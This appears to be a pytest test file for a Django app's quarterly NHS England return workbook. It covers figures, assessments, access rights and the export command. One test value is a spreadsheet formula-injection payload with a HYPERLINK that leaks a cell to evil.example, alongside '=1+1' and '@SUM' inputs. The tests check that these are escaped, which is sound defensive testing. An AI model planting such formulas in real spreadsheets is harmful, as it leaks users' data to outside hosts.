"""The quarterly return to NHS England: the workbook opened as NHS England would open it (its
sheets, the template's words, numbers, dates, no formula), its figures checked against what the
board pack's own selectors and performance table give, the analyst's assessments and texts, who
may see and write it, and `export_return`'s answers to bad input."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from bettercare.periods import parse_quarter
from bettercare.roles import Role
from bettercare.spreadsheets import POUNDS, table_sheet
from metrics.models import Metric
from reports.models import Pack, QuarterlyReturn, ReturnMetric
from reports.progress import Assessment
from reports.returns import SHEET_NAMES, return_workbook
from reports.sections import PerformanceSection
from reports.selectors import hwb_sign_off, pack_finance, quarterly_return
from reports.services import (
    ConditionEntry,
    ReturnMetricEntry,
    national_conditions_save,
    pack_create,
    pack_text_save,
    quarterly_return_save,
)
from reports.tables import PerformanceTable
from tests.factories import SchemeFactory

pytestmark = pytest.mark.django_db

Q2 = parse_quarter("2018-19-Q2")
ON_TRACK = "On track to meet target"
NOT_ON_TRACK = "Not on track to meet target"
NO_DATA = "Data not available to assess progress"
# The pack's rating against target, and the template's words it must give: the test states the
# rule itself rather than asking the code under test.
WORDS_FOR_RATING = {"green": ON_TRACK, "amber": NOT_ON_TRACK, "red": NOT_ON_TRACK, None: NO_DATA}
# Reading the demo's return: the pack's metrics (with its headlines) and finance, the
# conditions, the timetable, the return.
QUERIES = 31
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _open(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def _records(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]


def _answers(sheet) -> dict:
    return {row["Question"]: row["Answer"] for row in _records(sheet)}


def _amount(value) -> Decimal:
    assert isinstance(value, int | float), f"{value!r} is not a number"
    return Decimal(str(value)).quantize(Decimal("0.01"))


def _demo_workbook(area) -> openpyxl.Workbook:
    return _open(return_workbook(quarterly_return(area=area, quarter=Q2)))


def _demo_pack(area) -> Pack:
    return Pack.objects.get(area=area, board="JCB", quarter=Q2)


# --- The workbook of the Southampton demo -------------------------------------------------


def test_the_workbook_has_the_templates_sheets_and_words(demo):
    book = _demo_workbook(demo)
    assert book.sheetnames == list(SHEET_NAMES) == [
        "Cover",
        "National Conditions",
        "Metrics",
        "Income and Expenditure",
        "HWB sign-off",
    ]
    cover = _answers(book["Cover"])
    assert cover["Area"] == "Southampton"
    assert cover["ONS code"] == "E06000045"
    assert cover["Health and Wellbeing Board"] == "Southampton Health and Wellbeing Board"
    assert cover["Quarter"] == "Quarter Two 2018/19"
    # The demo's figures are invented, and the return says so, as the pack's cover does.
    assert cover["Illustrative figures"].startswith("Invented for demonstration, not real: the")
    assessments = {row["Assessment of progress"] for row in _records(book["Metrics"])}
    # The demo has a metric on track, some not, and one without a figure for August 2018.
    assert assessments == {ON_TRACK, NOT_ON_TRACK, NO_DATA}
    conditions = _records(book["National Conditions"])
    assert [row["Number"] for row in conditions] == [1, 2, 3, 4]
    assert {row["Confirmed (Yes/No)"] for row in conditions} == {"Yes"}
    assert conditions[0]["Comment"].startswith("The Better Care Plan 2017-19 was agreed")


def test_the_assessments_follow_the_ratings_of_the_packs_performance_table(demo):
    pack = _demo_pack(demo)
    # The performance table as the pack's own export writes it.
    context = PerformanceSection().get_context(pack)
    exported = _records_of(table_sheet(PerformanceTable(context["rows"]), "Performance"))
    by_name = {row["Metric"]: row for row in exported}
    ratings = {row.rag.name: row.rag.vs_plan.rag for row in context["rows"]}
    national = Metric.objects.filter(scope="national", rate_of=None)
    metrics = _records(_demo_workbook(demo)["Metrics"])
    assert [row["Metric"] for row in metrics] == [
        metric.name for metric in national.order_by("display_order") if metric.is_valid_in(Q2.year)
    ]
    for row in metrics:
        pack_row = by_name.get(row["Metric"])
        rating = ratings.get(row["Metric"])
        assert row["Assessment worked out from the rating"] == WORDS_FOR_RATING[rating]
        assert row["Assessment of progress"] == WORDS_FOR_RATING[rating]
        if pack_row is None:  # not in the pack's table: no figure at the data month
            assert row["Rating against target in the board pack"] == "Data not available"
            assert row["Actual"] is None
            continue
        assert row["Rating against target in the board pack"] == pack_row["Year to Date vs. Target"]
        assert row["Actual"] == pytest.approx(float(pack_row["Actual"].value))
        assert row["Target"] == pytest.approx(float(pack_row["Target"].value))
    # Checked on the demo's own mix: something of each kind is in the table.
    assert set(ratings.values()) >= {"green", "amber", "red"}


def _records_of(sheet) -> list[dict]:
    return [dict(zip(sheet.headers, row, strict=True)) for row in sheet.rows]


def test_the_pool_and_the_forecast_are_the_packs(demo):
    finance = pack_finance(pack=_demo_pack(demo))
    fund, position = finance.fund, finance.position
    rows = _records(_demo_workbook(demo)["Income and Expenditure"])
    income = [row for row in rows if row["Part"] == "Income"]
    streams = {
        (row["Partner"], row["Funding stream"]): _amount(row["Income"])
        for row in income
        if row["Funding stream"] not in ("All streams", None)
    }
    assert streams == {
        (entry.partner.name, entry.stream_label): entry.amount for entry in fund.contributions
    }
    totals = {
        row["Partner"]: _amount(row["Income"])
        for row in income
        if row["Funding stream"] == "All streams"
    }
    assert totals == {
        **{partner.partner.name: partner.contributed for partner in fund.by_partner},
        "Total pooled fund": fund.total,
    }
    minimum = next(row for row in income if row["Partner"] == "National minimum")
    assert _amount(minimum["Income"]) == fund.national_minimum
    spend = {
        row["Partner"]: (
            _amount(row["Planned spend"]),
            _amount(row["Forecast spend"]),
            _amount(row["Variance"]),
        )
        for row in rows
        if row["Part"].startswith("Expenditure")
    }
    assert spend == {
        **{
            line.partner.name: (line.budget, line.forecast, line.variance)
            for line in position.partners
        },
        "Total": (position.total.budget, position.total.forecast, position.total.variance),
    }
    assert all(
        row["Part"] == f"Expenditure at Month 5 ({position.month.label})"
        for row in rows
        if row["Part"] != "Income"
    )


def test_numbers_are_numbers_dates_are_dates_and_nothing_is_a_formula(demo):
    book = _demo_workbook(demo)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("="), f"{sheet.title}!{cell.coordinate}"
    cover = _answers(book["Cover"])
    assert cover["Figures up to"] == dt.datetime(2018, 8, 31)
    sign_off = _answers(book["HWB sign-off"])
    assert sign_off["Date of the board's meeting"] == dt.datetime(2018, 12, 5)  # the timetable's
    assert book["HWB sign-off"]["B3"].number_format == "d mmm yyyy"
    finance = book["Income and Expenditure"]
    money = [cell for column in ("D", "E", "F", "G") for cell in finance[column][1:]]
    assert all(
        cell.number_format == POUNDS and isinstance(cell.value, int | float)
        for cell in money
        if cell.value is not None
    )
    metrics = book["Metrics"]
    actuals = [cell for cell in metrics["D"][1:] if cell.value is not None]
    assert actuals and all(isinstance(cell.value, int | float) for cell in actuals)
    assert {cell.number_format for cell in actuals} <= {"#,##0", "#,##0.0", '0.0"%"'}


def test_what_the_analyst_types_is_text_and_their_assessment_goes_with_its_reason(demo):
    analyst = demo.members.get(username="analyst")
    national_conditions_save(
        area=demo,
        year=Q2.year,
        entries=[ConditionEntry(code="jointly_agreed_plan", compliance="compliant", note="=1+1")],
        user=analyst,
    )
    data = quarterly_return(area=demo, quarter=Q2)
    nel = next(row for row in data.metrics if row.metric.code == "nel_admissions")
    assert nel.worked_out == Assessment.NOT_ON_TRACK
    entries = [
        ReturnMetricEntry(code=row.metric.code, assessment=row.worked_out.value)
        for row in data.metrics
        if row.metric.code != "nel_admissions"
    ]
    with pytest.raises(ValidationError, match="say why the assessment is “On track"):
        quarterly_return_save(
            area=demo,
            quarter=Q2,
            entries=[*entries, ReturnMetricEntry(code="nel_admissions", assessment="on_track")],
            user=analyst,
        )
    assert not QuarterlyReturn.objects.filter(area=demo).exists()  # all or nothing
    quarterly_return_save(
        area=demo,
        quarter=Q2,
        contact_phone="023 8083 4000",
        entries=[
            *entries,
            ReturnMetricEntry(
                code="nel_admissions",
                assessment="on_track",
                reason="+ Admissions fell in September, after the data month.",
                challenges=LINK,
                achievements="@SUM(1+1)",
                support_needs="None this quarter.",
            ),
        ],
        user=analyst,
    )
    # Choosing the worked-out assessment stores none: it follows the rating if figures change.
    changed = ReturnMetric.objects.exclude(assessment="")
    assert set(changed.values_list("metric__code", flat=True)) == {"nel_admissions"}
    book = _demo_workbook(demo)
    row = next(r for r in _records(book["Metrics"]) if r["Metric"] == nel.metric.name)
    assert row["Assessment worked out from the rating"] == NOT_ON_TRACK
    assert row["Assessment of progress"] == ON_TRACK
    assert row["Reason for changing the assessment"] == (
        "'+ Admissions fell in September, after the data month."
    )
    assert row["Challenges"] == "'" + LINK
    assert row["Achievements"] == "'@SUM(1+1)"
    assert row["Support needs"] == "None this quarter."
    assert _records(book["National Conditions"])[0]["Comment"] == "'=1+1"
    cover = _answers(book["Cover"])
    assert cover["Completed by"] == analyst.get_full_name()
    assert cover["E-mail"] == analyst.email
    assert cover["Telephone"] == "023 8083 4000"
    assert isinstance(cover["Completed on"], dt.datetime)


def test_the_sign_off_comes_from_the_hwb_pack_before_the_timetable(demo):
    sign_off = hwb_sign_off(area=demo, quarter=Q2, today=dt.date(2019, 1, 1))
    assert (sign_off.meeting_date, sign_off.date_from) == (
        dt.date(2018, 12, 5),
        "The reporting timetable",
    )
    assert not sign_off.signed_off
    assert sign_off.state == (
        "Not signed off: the HWB pack is not started; the board meets on 5 December 2018"
    )
    secretary = demo.members.get(username="secretary")
    pack = pack_create(area=demo, board="HWB", quarter=Q2, user=secretary)
    pack_text_save(pack=pack, text={"meeting_date": dt.date(2018, 12, 6)})
    sign_off = hwb_sign_off(area=demo, quarter=Q2, today=dt.date(2019, 1, 1))
    assert (sign_off.meeting_date, sign_off.date_from) == (
        dt.date(2018, 12, 6),
        "The HWB pack's date of meeting",
    )
    assert sign_off.pack_state == "Draft" and not sign_off.signed_off
    Pack.objects.filter(pk=pack.pk).update(status=Pack.Status.FINAL)
    assert hwb_sign_off(area=demo, quarter=Q2, today=dt.date(2019, 1, 1)).state == (
        "Signed off by the Southampton Health and Wellbeing Board on 6 December 2018"
    )
    assert not hwb_sign_off(area=demo, quarter=Q2, today=dt.date(2018, 12, 1)).signed_off
    # Now the HWB's pack is the one whose figures the return gives (its data month).
    assert quarterly_return(area=demo, quarter=Q2).pack.board == "HWB"


# --- Without the demo: an area with no figures, and the command line ---------------------------


@pytest.fixture(autouse=True)
def _reporting_q2(request):
    """Areas made here report Quarter Two 2018/19, with a scheme from 2017/18: the quarters
    their returns may be asked for run from 2017-18-Q1 to 2018-19-Q2."""
    if "demo" in request.fixturenames:
        return
    for name in ("area", "other_area"):
        if name in request.fixturenames:
            made = request.getfixturevalue(name)
            made.current_quarter = Q2
            made.save()
            SchemeFactory(area=made, number=9, name="A scheme")


def test_an_area_without_figures_gets_a_return_saying_so(area):
    data = quarterly_return(area=area, quarter=Q2)
    assert data.pack is None and str(data.data_month) == "2018-08"
    assert {row.assessment for row in data.metrics} == {Assessment.NO_DATA}
    book = _open(return_workbook(data))
    assert book.sheetnames == list(SHEET_NAMES)
    rows = _records(book["Income and Expenditure"])
    assert rows[0]["Partner"] == "No pooled fund recorded for 2018/19"
    assert rows[-1]["Partner"] == "No forecasts loaded for 2018/19 up to August 2018"
    assert {row["Confirmed (Yes/No)"] for row in _records(book["National Conditions"])} == {None}
    assert "National condition 1 has not been assessed yet." in data.lacking


def test_export_return_writes_the_workbook(area, tmp_path):
    output = tmp_path / "return.xlsx"
    out = io.StringIO()
    call_command(
        "export_return", area="e06000045", quarter="Q2 2018/19", output=str(output), stdout=out
    )
    assert "Wrote Southampton's return for Quarter Two 2018/19" in out.getvalue()
    assert _open(output.read_bytes()).sheetnames == list(SHEET_NAMES)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"area": "E06000999"}, "There is no area with the ONS code E06000999. Known areas: E06"),
        ({"quarter": "2018-19-Q5"}, "--quarter: '2018-19-Q5' is not a quarter"),
        ({"quarter": "2031-32-Q1"}, "--quarter: Southampton has no return for Quarter One 2031/32"),
        ({"output": "/no/such/folder/return.xlsx"}, "--output: the folder /no/such/folder"),
    ],
)
def test_export_return_refuses_bad_input_plainly(area, tmp_path, options, message):
    arguments = {"area": "E06000045", "quarter": "2018-19-Q2", "output": str(tmp_path / "r.xlsx")}
    with pytest.raises(CommandError) as refused:
        call_command("export_return", **{**arguments, **options})
    assert message in str(refused.value)
    assert refused.value.returncode == 1
    assert not (tmp_path / "r.xlsx").exists()


# --- Who may see and write it, on the pages -------------------------------------------------


@pytest.fixture
def other_analyst(make_user, other_area):
    return make_user("analyst-portsmouth", Role.ANALYST, [other_area])


def _posted(data, **changes) -> dict:
    """The edit form as the page posts it, every metric at its worked-out assessment."""
    post = {
        "form-TOTAL_FORMS": str(len(data.metrics)),
        "form-INITIAL_FORMS": str(len(data.metrics)),
        "cover-contact_phone": "",
    }
    for index, row in enumerate(data.metrics):
        post[f"form-{index}-code"] = row.metric.code
        post[f"form-{index}-assessment"] = row.worked_out.value
        for name in ("reason", "challenges", "achievements", "support_needs"):
            post[f"form-{index}-{name}"] = ""
    post.update(changes)
    return post


URLS = ("reports:return", "reports:return_download", "reports:return_edit")


@pytest.mark.parametrize(
    ("role", "answers"),
    [
        (Role.ANALYST, (200, 200, 200)),
        (Role.BOARD_SECRETARY, (200, 200, 403)),
        (Role.ADMINISTRATOR, (200, 200, 403)),
        (Role.SCHEME_LEAD, (403, 403, 403)),
    ],
)
def test_who_may_see_and_complete_the_return(make_user, area, client, role, answers):
    user = make_user(f"someone-{role}", role, [area])
    client.force_login(user)
    got = tuple(client.get(reverse(name), {"quarter": "2018-19-Q2"}).status_code for name in URLS)
    assert got == answers
    index = client.get(reverse("reports:index"))
    assert (b'data-testid="return-link"' in index.content) == (answers[0] == 200)
    data = quarterly_return(area=area, quarter=Q2)
    response = client.post(
        reverse("reports:return_edit") + "?quarter=2018-19-Q2",
        _posted(data, **{"cover-contact_phone": "0300 123 4567"}),
    )
    assert response.status_code == (302 if role == Role.ANALYST else 403)
    assert QuarterlyReturn.objects.filter(area=area).exists() == (role == Role.ANALYST)


def test_the_download_is_the_workbook_of_the_quarter(analyst, area, login):
    response = login(analyst).get(reverse("reports:return_download"), {"quarter": "2018-19-Q2"})
    assert response["Content-Disposition"] == (
        'attachment; filename="BCF-return-E06000045-2018-19-Q2.xlsx"'
    )
    assert _answers(_open(response.content)["Cover"])["Quarter"] == "Quarter Two 2018/19"
    refused = login(analyst).get(reverse("reports:return_download"), {"quarter": "2031-32-Q1"})
    assert refused.status_code == 400


def test_another_areas_analyst_reads_and_writes_only_their_own_areas_return(
    analyst, other_analyst, area, other_area, client
):
    quarterly_return_save(
        area=area,
        quarter=Q2,
        contact_phone="023 8000 0000",
        entries=[
            ReturnMetricEntry(
                code=row.metric.code, assessment=row.worked_out.value, challenges="Ours"
            )
            for row in quarterly_return(area=area, quarter=Q2).metrics
        ],
        user=analyst,
    )
    client.force_login(other_analyst)
    page = client.get(reverse("reports:return"), {"quarter": "2018-19-Q2"})
    assert b"Portsmouth" in page.content and b"023 8000 0000" not in page.content
    book = _open(client.get(reverse("reports:return_download"), {"quarter": "2018-19-Q2"}).content)
    assert _answers(book["Cover"])["ONS code"] == "E06000044"
    assert "Ours" not in {row["Challenges"] for row in _records(book["Metrics"])}
    # Naming Southampton in the post changes nothing there: the area is the session's.
    data = quarterly_return(area=other_area, quarter=Q2)
    response = client.post(
        reverse("reports:return_edit") + "?quarter=2018-19-Q2",
        _posted(data, area="E06000045", **{"form-0-challenges": "Theirs"}),
    )
    assert response.status_code == 302
    ours = ReturnMetric.objects.filter(quarterly_return__area=area)
    assert set(ours.values_list("challenges", flat=True)) == {"Ours"}
    theirs = ReturnMetric.objects.filter(quarterly_return__area=other_area)
    assert "Theirs" in set(theirs.values_list("challenges", flat=True))
    with pytest.raises(PermissionDenied):
        quarterly_return_save(area=area, quarter=Q2, entries=[], user=other_analyst)


def test_the_form_keeps_what_was_typed_and_asks_for_the_reason(analyst, area, login):
    data = quarterly_return(area=area, quarter=Q2)
    response = login(analyst).post(
        reverse("reports:return_edit") + "?quarter=2018-19-Q2",
        _posted(data, **{"form-0-assessment": "on_track", "form-0-challenges": "Winter pressures"}),
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "There is a problem" in body
    assert "Say why the assessment is “On track to meet target”" in body
    assert "Winter pressures" in body
    assert not QuarterlyReturn.objects.exists()
    unknown = login(analyst).post(
        reverse("reports:return_edit") + "?quarter=2018-19-Q2",
        _posted(data, **{"form-0-code": "not_a_metric"}),
    )
    assert unknown.status_code == 400
    assert "“not_a_metric” is not a national metric of the return" in unknown.content.decode()


def test_reading_the_return_takes_as_many_queries_however_much_is_written(demo):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as empty:
        quarterly_return(area=demo, quarter=Q2)
    analyst = demo.members.get(username="analyst")
    quarterly_return_save(
        area=demo,
        quarter=Q2,
        entries=[
            ReturnMetricEntry(
                code=row.metric.code,
                assessment=Assessment.NO_DATA.value,
                reason="Figures under review.",
                challenges="Winter.",
            )
            for row in quarterly_return(area=demo, quarter=Q2).metrics
        ],
        user=analyst,
    )
    with CaptureQueriesContext(connection) as written:
        data = quarterly_return(area=demo, quarter=Q2)
    assert {row.assessment for row in data.metrics} == {Assessment.NO_DATA}
    # One more: the metrics written; none per metric.
    assert len(written) == len(empty) + 1 <= QUERIES
